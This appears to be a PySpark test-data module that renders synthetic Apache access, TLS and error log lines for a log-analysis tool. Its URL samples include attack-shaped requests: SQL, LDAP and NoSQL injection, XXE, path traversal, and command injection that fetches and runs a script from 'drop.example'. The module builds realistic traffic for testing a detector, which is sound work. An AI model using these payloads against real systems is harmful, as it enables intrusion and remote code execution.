"""Web-server log lines derived from the driver's ``events`` table.

No log files come with the test data, so every registered query renders the
``events`` rows into log records with plain column expressions.  The same
expressions exist as DuckDB SQL in :mod:`loghound.plans.oracle`, so both
engines see byte-identical lines.  The work grows linearly with ``events``.

Mapping (per event):

* ``ord = event_id`` (line order), ``ts_s = 1754006400 + event_id div 10``
  (2025-08-01 00:00:00 UTC, ten lines per second)
* ``ip = '203.0.113.' || (user_id % 6 if user_id % 3 = 0 else user_id % 40)``
* ``status``/``method``/``url``/``message`` are list elements chosen by
  ``event_id`` modulo the list length
* format: ``error`` events become Apache error-log lines, ``event_id % 5 = 0``
  TLS request-log lines, ``event_id % 7 = 0`` timestamp-first access lines,
  everything else common/combined access lines.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

BASE_TS = 1754006400

# --- samples of the test-data rendering, read by the DuckDB oracle too ---
STATUSES = [200, 200, 404, 200, 403, 401, 200, 400, 404, 429, 500, 200]
METHODS = ["GET", "GET", "POST", "CONNECT", "PROPFIND", "GET", "EMPTY", "INCOMPLETE", "GET"]
URLS = [
    "/start",
    "/css/site.css",
    "/items?id=9%27%20union%20all%20select%20pin%20from%20members--",
    "/list?sort=%55nion%20%53elect%20name%20from%20staff",
    "/orders?where[$gt]=1",
    "/people?name=*)(mail=*))(|(cn=*",
    "/feed?body=<!entity%20a%20SYSTEM%20%22file:///etc/group%22>",
    "/tool?run=cd%20/var/tmp;curl%20http://drop.example/a.sh;sh%20a.sh",
    "/job?start=%20cd%20/tmp%3bwget%20http://drop.example/kit",
    "/host?do=sudo%20chmod%20+x%20/tmp/agent",
    "/read?name=../../../../etc/group",
    "/get?name=..%2f..%2fetc%2fhosts",
    "/show?name=....//....//etc/fstab",
    "/app/.env",
    "/src/.git/HEAD",
    "/lib/phpunit/src/Util/PHP/eval-stdin.php",
    "/old/site.sql.bak",
    "/shop/detail.php?no=3",
    "/contact",
    "/js/menu.js",
    "/row?key=7%20or%201=1--",
    "/signin",
    "/cgi-bin/info.cgi?a=%3Bcat%20/etc/issue",
    "/blog/2024/03/12/select-and-update.html",
]
ERROR_MESSAGES = [
    "File does not exist: /var/www/html/wp-login.php",
    "client denied by server configuration: /var/www/html/.htaccess",
    "ModSecurity: Access denied with code 403 (phase 2)",
    "script not found or unable to stat: /usr/lib/cgi-bin/test.cgi",
    "user admin not found: /admin",
    "authentication failure for \"/admin\": Password Mismatch",
    "Invalid URI in request GET /%%% HTTP/1.1",
    "SSL handshake failed",
    "request failed: error reading the headers",
    "Permission denied: /etc/shadow",
    "user root: authentication failure for \"/private\": Password Mismatch",
    "AH00124: Request exceeded the limit of 10 internal redirects",
    "segmentation fault (11), possible coredump",
]
TLS_PROTOCOLS = ["TLSv1.2", "TLSv1.3", "TLSv1", "SSLv3"]
TLS_CIPHERS = ["ECDHE-RSA-AES256-GCM-SHA384", "ECDHE-RSA-AES128-GCM-SHA256", "DES-CBC3-SHA"]
JSON_METHODS = ["listUsers", "dropTable", "runJob"]
# --- end of samples ---


def _pick(values, idx: Column) -> Column:
    """Element ``idx`` (0-based) of a literal list; a CASE-free array lookup."""
    return F.element_at(F.array(*[F.lit(v) for v in values]), (idx + 1).cast("int"))


def weblog(spark: SparkSession, sf_dir: str, partitions: int | None = None) -> DataFrame:
    """Structured request records (one per event), the ground truth the
    rendered lines encode."""
    ev = spark.read.parquet(f"{sf_dir}/events.parquet").select("event_id", "user_id", "event_type", "value")
    # a table that is one split can be spread round robin on request
    if partitions:
        ev = ev.repartition(partitions)
    eid = F.col("event_id")
    uid = F.col("user_id")
    kind = (F.when(F.col("event_type") == "error", F.lit("error_log"))
            .when(eid % 5 == 0, F.lit("ssl_request_log"))
            .when(eid % 7 == 0, F.lit("timestamp_first_access_log"))
            .otherwise(F.lit("access_log")))
    return ev.select(
        eid.alias("ord"),
        (F.lit(BASE_TS) + F.floor(eid / 10)).cast("bigint").alias("ts_s"),
        F.concat(F.lit("203.0.113."),
                 F.when(uid % 3 == 0, uid % 6).otherwise(uid % 40).cast("string")).alias("ip"),
        kind.alias("kind"),
        _pick(STATUSES, eid % len(STATUSES)).alias("status"),
        _pick(METHODS, eid % len(METHODS)).alias("method"),
        _pick(URLS, eid % len(URLS)).alias("url"),
        _pick(ERROR_MESSAGES, eid % len(ERROR_MESSAGES)).alias("message"),
        F.when(eid % 11 == 0, F.lit("admin")).alias("username"),
        _pick(TLS_PROTOCOLS, eid % len(TLS_PROTOCOLS)).alias("tls_protocol"),
        _pick(TLS_CIPHERS, eid % len(TLS_CIPHERS)).alias("tls_cipher"),
        _pick(JSON_METHODS, eid % len(JSON_METHODS)).alias("json_method"),
        F.floor(F.col("value") * 100).cast("bigint").alias("size"),
    )


def render_lines(records: DataFrame) -> DataFrame:
    """Render structured records as raw log text: ``(ord, value)``."""
    ts = F.timestamp_seconds(F.col("ts_s"))
    access_ts = F.concat(F.lit("["), F.date_format(ts, "dd/MMM/yyyy:HH:mm:ss"), F.lit(" +0900]"))
    error_ts = F.concat(F.lit("["), F.date_format(ts, "EEE MMM dd HH:mm:ss yyyy"), F.lit("]"))
    m = F.col("method")
    is_tls = F.col("kind") == "ssl_request_log"
    request = (F.when(m == "EMPTY", F.lit(""))
               .when(m == "INCOMPLETE", F.lit("-"))
               .when(is_tls & (m == "POST"),
                     F.concat(F.lit('{\\"id\\":'), (F.col("ord") % 3).cast("string"),
                              F.lit(',\\"method\\":\\"'), F.col("json_method"), F.lit('\\"}')))
               .otherwise(F.concat(m, F.lit(" "), F.col("url"), F.lit(" HTTP/1.1"))))
    quoted = F.concat(F.lit('"'), request, F.lit('"'))
    status = F.col("status").cast("string")
    size = F.col("size").cast("string")
    user = F.coalesce(F.col("username"), F.lit("-"))
    line = (F.when(F.col("kind") == "error_log",
                   F.concat(error_ts, F.lit(" [error] [client "), F.col("ip"), F.lit("] "), F.col("message")))
            .when(is_tls,
                  F.concat_ws(" ", access_ts, F.col("ip"), F.col("tls_protocol"), F.col("tls_cipher"), quoted, status))
            .when(F.col("kind") == "timestamp_first_access_log",
                  F.concat_ws(" ", access_ts, F.col("ip"), F.lit("- -"), quoted, status, size))
            .otherwise(F.concat_ws(" ", F.col("ip"), F.lit("-"), user, access_ts, quoted, status, size)))
    return records.select(F.col("ord"), line.alias("value"))


def log_lines(spark: SparkSession, sf_dir: str, partitions: int | None = None) -> DataFrame:
    """Raw log lines with the columns of :func:`loghound.sources.text.read_log_lines`."""
    return render_lines(weblog(spark, sf_dir, partitions)).select(
        "ord", F.lit("events").alias("file_path"), "value")


# (every n-th event, the reason of the reject, the line) of lines that give no record
FAILING = [
    (11, "comment", "# rotated"),
    (13, "blank", "  "),
    (17, "format", "service restarted"),
    (19, "client", '999.1.1.1 - - [01/Aug/2025:00:00:00 +0900] "GET / HTTP/1.1" 200 1'),
    (23, "status", '203.0.113.1 - - [01/Aug/2025:00:00:00 +0900] "GET / HTTP/1.1" 2000 1'),
]


def failing_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Lines that must be rejected: (ord, value), up to five for an event."""
    ev = spark.read.parquet(f"{sf_dir}/events.parquet").select(F.col("event_id").alias("ord"))
    found = F.array_compact(F.array(*[F.when(F.col("ord") % n == 0, F.lit(line)) for n, _, line in FAILING]))
    return ev.select("ord", F.explode(found).alias("value"))
